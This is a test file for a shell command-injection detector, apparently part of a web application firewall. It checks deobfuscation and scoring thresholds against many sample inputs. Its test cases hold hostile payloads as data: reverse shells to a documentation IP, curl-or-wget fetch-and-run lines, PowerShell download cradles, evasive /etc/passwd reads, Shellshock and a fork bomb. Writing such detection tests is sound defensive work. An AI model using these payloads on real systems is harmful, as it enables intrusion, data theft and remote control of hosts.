/**
 * The `shell` family: command injection read the way a shell reads it.
 */
import { describe, expect, it } from "@effect/vitest"
import type { Paranoia } from "../../../src/internal/detection/families/contract.js"
import { forEachCommand, simpleCommands } from "../../../src/internal/detection/families/shell/commandLine.js"
import { family } from "../../../src/internal/detection/families/shell/index.js"
import {
  braceCommand,
  FUNCTION_DEFINITION,
  HISTORY_EXPANSION,
  LEADING_SEPARATOR,
  TILDE_DIRECTORY,
  WINDOWS_SYSTEM_VARIABLE
} from "../../../src/internal/detection/families/shell/expansions.js"
import { deobfuscateShell } from "../../../src/internal/detection/families/shell/normalize.js"
import { cpuDoublingRatio } from "./doublingRatio.js"
import { expectVerdicts as verdicts } from "./verdicts.js"

const score = (value: string, paranoia: Paranoia = 1): number =>
  family.mayMatch(value)
    ? family.scan(value, { location: "query", paranoia }).reduce((sum, finding) => sum + finding.score, 0)
    : 0

const rulesOf = (value: string, paranoia: Paranoia = 1): ReadonlyArray<string> =>
  family.scan(value, { location: "query", paranoia }).map((finding) => finding.ruleId)

/** Each of `passing` stays below the threshold at level 1 and each of `refused` reaches it. */
const expectVerdicts = (passing: ReadonlyArray<string>, refused: ReadonlyArray<string>): void => verdicts((value) => score(value, 1), passing, refused)

describe("shell family", () => {
  it("undoes the shell's word-splitting tricks before reading commands", () => {
    expect(deobfuscateShell("c'a't /etc/pa\"ss\"wd")).toBe("cat /etc/passwd")
    expect(deobfuscateShell("c\\at$IFS/etc/passwd")).toBe("cat /etc/passwd")
    expect(deobfuscateShell("cat${IFS}/etc/passwd")).toBe("cat /etc/passwd")
    expect(deobfuscateShell("c$@at /et$9c/pas$_swd")).toBe("cat /etc/passwd")
    expect(deobfuscateShell("ca${x:-}t$u /etc$u/passwd")).toBe("cat /etc/passwd")
    expect(deobfuscateShell("{cat,/etc/passwd}")).toBe("(cat /etc/passwd)")
    expect(deobfuscateShell("w^ho^am^i")).toBe("whoami")
    expect(deobfuscateShell("pi``ng 127.0.0.1")).toBe("ping 127.0.0.1")
  })

  it("never writes more than it reads, whatever it expands", () => {
    for (const value of ["{a,b}", "{,id}", "$SHELL", "${SHELL}", "${x:-abc}", "$IFS$9", "c\\at", "``", "$()", "{a,b,c,d,e}x"]) {
      expect(deobfuscateShell(value).length, value).toBeLessThanOrEqual(value.length)
    }
  })

  it("names the command behind a path, a version or a glob", () => {
    const names = (value: string) => simpleCommands(deobfuscateShell(value)).map((command) => command.name)
    expect(names(";/usr/bin/python3.11 -c x")).toEqual(["python"])
    expect(names("x;/???/c?t /etc/passwd")).toEqual(["cat"])
    expect(names("a|C:\\Windows\\System32\\cmd.exe /c dir")).toEqual(["cmd"])
  })

  it.each([
    ";id",
    "a;id|",
    "'|/usr/bin/id|'",
    "& ping -n 30 127.0.0.1 &",
    "x && wget http://203.0.113.9/x.sh -O /tmp/x",
    "foo\ncat /etc/passwd",
    "1 || curl evil.example | sh",
    "`uname -a`",
    "$(whoami)",
    "q;c'a't /etc/passwd",
    "q;cat$IFS/etc/passwd",
    "q;c\\at${IFS}/et\\c/passwd",
    "q;{cat,/etc/passwd}",
    "{,ifconfig}",
    "Invoke-Expression -Command file.ps1",
    "q;/???/??t /???/p??s??",
    "q;/bin/c?t /etc/passwd",
    "q;c$@at /etc/passwd",
    "() { :;}; /bin/bash -c id",
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "nc -e /bin/sh 203.0.113.9 4444",
    "x|powershell -enc SQBFAFgA",
    "iex (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
    "for /f %i in ('whoami') do echo %i",
    "<!--#exec cmd=\"ls /\"-->",
    "alias x=curl; x evil.example",
    "& netsh firewall set opmode disable",
    "time sh -c whoami",
    "x;python3 -c 'import os'"
  ])("refuses the command injection %j at level 1", (value) => {
    expect(score(value)).toBeGreaterThanOrEqual(5)
  })

  it.each([
    "rock & roll; cat lovers",
    "tom & jerry",
    "AT&T",
    "terms & conditions; see page 3",
    "foo;bar",
    "a|b",
    "Ring twice; dog is friendly :)",
    "Let x = 1; then x + x = 2.",
    "ls -la explained",
    "rm -rf / meaning",
    "${HOME} in bash",
    "`code` in markdown",
    "kubectl get pods -n default | grep api",
    "if [ -f ~/.bashrc ]; then . ~/.bashrc; fi",
    "text/html,application/xhtml+xml,*/*;q=0.8",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
    "en-US,en;q=0.9",
    "https://example.com/path?x=1&y=2",
    "we met; id est, the usual",
    "use eval() carefully",
    "function() { return 1 }"
  ])("passes the ordinary value %j at level 1", (value) => {
    expect(score(value)).toBeLessThan(5)
  })

  it("keeps looser shapes for level 2: any substitution, a lone command name", () => {
    expect(score("${HOME}", 1)).toBe(0)
    expect(score("${HOME}", 2)).toBeGreaterThanOrEqual(5)
    expect(score("whoami", 1)).toBe(0)
    expect(score("whoami", 2)).toBeGreaterThanOrEqual(5)
    expect(rulesOf("x | grep root", 1)).toEqual([])
    expect(rulesOf("x | grep root", 2)).toContain("shell-020")
  })

  it.each([
    "c{a,u}t /etc/hosts",
    "{w,x}hoami",
    "u{n,x}ame",
    "{,whoami}",
    "{,$'uname',-a}",
    "{,'id',}",
    "cd ~+",
    "~-2",
    "x; ls ~+/",
    "dir %WINDIR%\\system32",
    "%ComSpec% /c ver",
    "; pwd",
    "| who",
    "&& env",
    "\\nwhoami\\n",
    "x;\\nuname -a",
    "usleep 500000",
    "sleep 7s",
    "!!"
  ])("refuses the expansion or probe %j at level 1", (value) => {
    expect(score(value)).toBeGreaterThanOrEqual(5)
  })

  it.each([
    "{\"cat\",\"dog\"}",
    "photo{1,2}.jpg",
    "{a,b,c}",
    "about ~+5 degrees warmer",
    "~-~ divider ~-~",
    "discount of 20% on 30%",
    "; see below",
    "C:\\new\\notes.txt",
    "line one\\nline two",
    "sleep 8 hours a night",
    "Wow!! really?",
    "function f() { return a || b; }"
  ])("passes the ordinary value %j at level 1", (value) => {
    expect(score(value)).toBeLessThan(5)
  })

  it("keeps a bare directory-stack index and a fork bomb for level 2", () => {
    expect(score("~0", 1)).toBe(0)
    expect(score("~0", 2)).toBeGreaterThanOrEqual(5)
    expect(score("b(){ b|b& };b", 1)).toBeLessThan(5)
    expect(score("b(){ b|b& };b", 2)).toBeGreaterThanOrEqual(5)
  })

  it("refuses $IFS written as the space between words", () => {
    for (const value of ["cat${IFS}/etc/passwd", "echo$IFS$9hi", "x`echo${IFS}a`", "ls$IFS-la", "{cat,$IFS}/x"]) {
      expect(rulesOf(value), value).toContain("shell-031")
    }
    // The bare name, as a word in prose or a field separator setting, is no evasion.
    for (const value of ["the IFS variable splits words", "IFS=,", "set $IFS to a comma"]) {
      expect(rulesOf(value), value).not.toContain("shell-031")
    }
  })

  it("refuses a value that starts with a backslash-escaped command, which skips aliases", () => {
    for (const value of ["\\ls", "\\whoami", "\\cat", "\\uname -a", "  \\id"]) expect(score(value), value).toBeGreaterThanOrEqual(5)
    // Windows paths and a word that is also English followed by prose pass.
    for (const value of ["\\dir\\file.txt", "\\windows\\temp", "\\nice day", "\\Users\\bob"]) {
      expect(score(value), value).toBe(0)
    }
  })

  it("refuses a prefixed rare command, a long option after a common command and glued Windows switches", () => {
    for (const value of ["time bsdtar ", "nohup ncat", "perf --version", "find --help", "a&bcdboot/r file.txt", "x|certutil/f"]) {
      expect(score(value), value).toBeGreaterThanOrEqual(5)
    }
    for (const value of ["time flies", "make --", "and/or", "cat/dog pictures", "find us on maps"]) {
      expect(score(value), value).toBeLessThan(5)
    }
  })

  it("knows service, package and Windows administration commands", () => {
    for (const value of ["; ip -br a", "|aa-disable php-fpm", "& setenforce 0", ";nsenter -t 1 -m sh", "|msiexec /q /i http://x/a.msi", "{,ip,a}"]) {
      expect(score(value), value).toBeGreaterThanOrEqual(5)
    }
  })

  it("knows the commands that print which system a host runs, on each platform; their names alone pass", () => {
    expectVerdicts(
      ["sysinfo", "The sysinfo module reports memory and CPU", "Run `sw_vers` to print the macOS version.", "{\"hostinfo\": true}"],
      ["| sysinfo", "& sysinfo", "; sw_vers", "|hostinfo;", "&& oslevel -s", "; prtconf", "&& dmidecode -t system"]
    )
  })

  it("passes prose that mentions commands", () => {
    for (const value of [
      "cat /etc/hosts file",
      "ls -la output",
      "use eval() carefully",
      "my IP address changed",
      "run time; total time 5 minutes",
      "see the man page for find",
      "python3.10 release notes",
      "echo chamber"
    ]) {
      expect(score(value), value).toBeLessThan(5)
    }
  })

  it("reads a command name glued to `(` as a function call, which a shell never runs", () => {
    expectVerdicts(
      ["expand('file-{a,b,c}.jpg')", "const parts = split(line, ',')", "whoami()"],
      // a space before the parenthesis, or a command after the call, still counts
      ["expand ('x') ; id", "x;whoami", "foo();wget http://203.0.113.9/a.sh"]
    )
  })

  it("reads no command right after a closing parenthesis, where a shell allows only a separator", () => {
    expectVerdicts(
      ["Report it to the Security Response Center (MSRC) at [https://msrc.example/report]", "call us (24/7) at 555-0100", "a) id"],
      ["a);id", "a)|id", "(id)", "$(id)", "x (y); wget http://203.0.113.9/a.sh"]
    )
  })

  it("reads a word that starts with `#!` or `# ` as a comment to the end of the line, as a shell does", () => {
    expectVerdicts(
      ["#!/usr/bin/env node\nconsole.log('hi')", "#!/usr/bin/env python3\nprint('hi')", "const line = '#!/usr/bin/env node'"],
      // the command before the comment runs, and so does the next line
      ["|id # look", "x\n# setup\ncat /etc/passwd", "#!/bin/sh\n/bin/sh -i"]
    )
  })

  it("reads a loop's increment as code, not as the g++ compiler", () => {
    // `g++` ends a `for` header in minified JavaScript; the compiler is only run with source files
    expect(score("for(var g=0;g<n.length;g++){c[g]=n[g]|0}")).toBeLessThan(5)
    expect(score("function f(a){for(var g=0;g<a;g++)a[g]=0}", 2)).toBeLessThan(5)
    expect(score("x; g++ /tmp/x.c -o /tmp/x")).toBeGreaterThanOrEqual(5)
    expect(score("a;g++ -o x x.c")).toBeGreaterThanOrEqual(5)
  })

  it("reads markdown code in prose as code, not as command substitution", () => {
    for (const value of [
      "To list hidden files, enter `ls -a` in a terminal.",
      "Try `grep -r TODO src` before you open a pull request",
      "Our CI calls `curl -fsSL https://example.com/install` and then `tar -xzf dist.tgz` on every build.",
      "Restart with `sudo systemctl restart nginx`, then reload the page.",
      "## Setup\n\n```sh\nnpm ci\nnpm run build\n```\n\nThe output lands in dist/.",
      "```console\n$ npm start\n```",
      "```python\nprint(1)\n```"
    ]) {
      expect(score(value), value).toBeLessThan(5)
    }
  })

  it("reads a Markdown list of code terms as code: an item that names a term and describes it", () => {
    for (const value of [
      "- [`mysql`](https://www.npmjs.com/package/mysql) versions `>=2.0.0 <3`",
      "* `id` - (String) UUID(-like) string",
      "- `env`\n- `host`\n- `os`\n- `all` - enable all resource detectors above",
      "1. `whoami` prints the user name",
      "+ `uname`: the kernel's name"
    ]) {
      expect(score(value), value).toBeLessThan(5)
    }
  })

  it("keeps a list item's backticks a substitution when nothing describes the term or it holds a command line", () => {
    for (const value of [
      "- `id`",
      "- `id` x",
      "- `id` is",
      "- `uname -a` prints",
      "* `whoami`\n",
      "- `$(id)` now",
      "1. `curl http://203.0.113.9/x|sh` then",
      "- `a;id` - list",
      "-`id` prints"
    ]) {
      expect(score(value), value).toBeGreaterThanOrEqual(5)
    }
  })

  it("keeps backticks a substitution where a shell would run them", () => {
    for (const value of [
      "`id`",
      "`cat /etc/passwd`",
      "q;`id`",
      "user=`whoami`",
      "echo `uname -a` done",
      "x `id` y",
      // a fence whose info string is a command runs it; a fence's lines are still commands
      "```id\n```",
      "```\nid\n```",
      "```bash\nwhoami\n```",
      "a```id```",
      // inside a sentence's code span, what is dangerous still counts
      "Please paste `$(curl http://203.0.113.9/x | sh)` into the field",
      "Then run `nc -e /bin/sh 203.0.113.9 4444` on the host, thanks",
      "Copy `a; wget http://203.0.113.9/x -O /tmp/x` into the box and submit"
    ]) {
      expect(score(value), value).toBeGreaterThanOrEqual(5)
    }
  })

  it("reads markdown code in time linear in the value's length", () => {
    const small = "Run `ls -la` in the folder. ".repeat(4_000) + "```sh\n".repeat(4_000) + "`".repeat(64_000)
    const large = small + small
    expect(cpuDoublingRatio((value) => family.scan(value, { location: "query", paranoia: 1 }), small, large)).toBeLessThanOrEqual(4)
  })

  it("reads Markdown list items in time linear in the value's length", () => {
    const small = "- `a` b ".repeat(8_000) + "\n- `x`".repeat(8_000)
    const large = small + small
    expect(cpuDoublingRatio((value) => family.scan(value, { location: "query", paranoia: 1 }), small, large)).toBeLessThanOrEqual(4)
  })

  it("reads brace lists, tildes and leading separators in time linear in the value's length", () => {
    // The brace reader and the new patterns alone (the rest of the scan is counted in steps below):
    // best of seven in CPU time, alternated, with room for a loaded machine.
    const readers = (value: string) => {
      braceCommand(value)
      TILDE_DIRECTORY.test(value)
      LEADING_SEPARATOR.test(value)
      WINDOWS_SYSTEM_VARIABLE.test(value)
      HISTORY_EXPANSION.test(value)
      FUNCTION_DEFINITION.test(value)
    }
    for (const fragment of ["{a,", "{{{{}", "{a,b}", "c{a,u}", "~+", "%windir", "; a", "!-1", "a(){ "]) {
      const small = fragment.repeat(Math.ceil(128_000 / fragment.length))
      const large = small + small
      expect(cpuDoublingRatio(readers, small, large), fragment).toBeLessThanOrEqual(4)
    }
  })

  it("rejects ordinary values in mayMatch", () => {
    for (const value of ["hello", "12345", "550e8400-e29b-41d4-a716-446655440000", "Jean-Luc Picard", "just some words"]) {
      expect(family.mayMatch(value), value).toBe(false)
    }
  })

  it("documents every rule with a stable id, a category and a level", () => {
    const ids = family.rules.map((rule) => rule.id)
    expect(new Set(ids).size).toBe(ids.length)
    for (const rule of family.rules) {
      expect(rule.id).toMatch(/^shell-\d{3}$/)
      expect(rule.category).toBe("cmd_injection")
      expect(rule.description.length).toBeGreaterThan(20)
    }
  })

  it("does work linear in the value's length on inputs that almost match", () => {
    // Steps counted, not timed (the machine running the suite may be loaded): the characters the
    // de-obfuscation writes and the simple commands the reader visits. Every pattern the family runs
    // besides these has bounded repetitions only, so it is linear by construction.
    const fragments = [";c'a't", "$IFS$", "${x", "{a,", "/???/", "`", "() {", "for %a in (", "<!--#", "| a", "$(", "\\", "alias "]
    const steps = (value: string) => {
      const text = deobfuscateShell(value)
      let visited = 0
      forEachCommand(text, () => {
        visited++
      })
      return text.length + visited
    }
    for (const fragment of fragments) {
      const small = fragment.repeat(Math.ceil(64_000 / fragment.length))
      const large = small + small
      expect((steps(large) + 1) / (steps(small) + 1), fragment).toBeLessThanOrEqual(2.05)
      expect(family.scan(large, { location: "query", paranoia: 4 }).length).toBeGreaterThanOrEqual(0)
    }
  })
})

describe("shell family: a mail session command on a line of its own", () => {
  it.each(["note\r\nRCPT TO:<desk@example.org>\r\nDATA", "\r\nB12 FETCH 4 BODY[]", "bye\nQUIT"])("is refused at level 2: %s", (value) => {
    expect(rulesOf(value, 2)).toContain("shell-038")
  })

  it.each(["Thanks!\nQUIT\n", "Done for today\r\nLOGOUT", "\r\nA7 LOGIN admin secret"])("is not refused by shell-038 at level 1: %s", (value) => {
    expect(rulesOf(value, 1)).not.toContain("shell-038")
  })
})

describe("shell family: a command that needs no argument on a line of its own", () => {
  it.each(["\nreboot", "\r\npoweroff", "\nhalt\n", "\n shutdown;"])("is refused after a line break: %s", (value) => {
    expect(score(value), value).toBeGreaterThanOrEqual(5)
  })

  it.each(["\nreboot the router and wait", "Halt! Who goes there?", "\nshutdown notice: Friday"])("passes prose that starts with the same word: %s", (value) => {
    expect(score(value), value).toBeLessThan(5)
  })
})

describe("shell family: a quoted link of an HTML tag", () => {
  // an app that quotes the value (`sh -c "echo \"$V\""`) sees the link's own quotes close its quote: the
  // URL then sits outside any quote, and a bare word between two `&` runs on its own
  it("reads a command chained between the `&` of a link that has no tag around it", () => {
    expectVerdicts([], ["x href=\"/?q=1&id&\"", "x src=\"/p?a=2&ls&\"", "a src='/?x=1&(id)&y='", "y action=\"/f?k=v&pwd&\""])
  })

  it("reads a command chained between the `&` of a link inside a real tag", () => {
    expectVerdicts([], [
      "<a href=\"/?q=1&id&\">x</a>",
      "<img src=\"/t?w=3&uname&h=4\">",
      "<a href='/s?a=1&(id)&b=2'>next</a>",
      "<form action=\"/f?x=1&&id&y=2\"><input></form>",
      "<a href=\"/?q=1&id\"",
      "<a href=\"/?q=1&id\"\" >x</a>"
    ])
  })

  it("passes a tag's link whose parameters are names with values or a last bare flag", () => {
    expectVerdicts(
      [
        "<a href=\"/search?q=boots&sort\">next page</a>",
        "<a class=\"btn\" href=\"/list?page=2&size=20&order=desc\">more</a>",
        "<img alt=\"thumb\" src=\"https://cdn.example.org/i?w=300&h=200&fit=crop\">",
        "<a href='/docs?v=2&more'>the docs</a>"
      ],
      []
    )
  })
})
